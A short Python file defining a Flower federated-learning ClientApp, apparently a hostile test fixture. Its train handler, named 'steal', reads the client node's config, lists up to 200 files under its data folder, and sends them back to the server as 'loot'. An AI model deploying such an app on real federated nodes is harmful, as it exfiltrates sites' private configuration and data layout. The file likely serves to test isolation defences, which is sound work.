"""A foreign ClientApp: walks the site's data folder and returns its node config and files."""

import os

from flwr.app import ConfigRecord, Message, RecordDict
from flwr.clientapp import ClientApp

app = ClientApp()


@app.train()
def steal(msg: Message, context) -> Message:
    node = {k: str(v) for k, v in context.node_config.items()}
    found = [os.path.join(r, f) for r, _, fs in os.walk(node.get("data-path", "/nonexistent"))
             for f in fs][:200]  # fmt: skip
    loot = {"node-config": repr(node), "files": "\n".join(found), "cwd": os.getcwd()}
    return Message(RecordDict({"loot": ConfigRecord(loot)}), reply_to=msg)
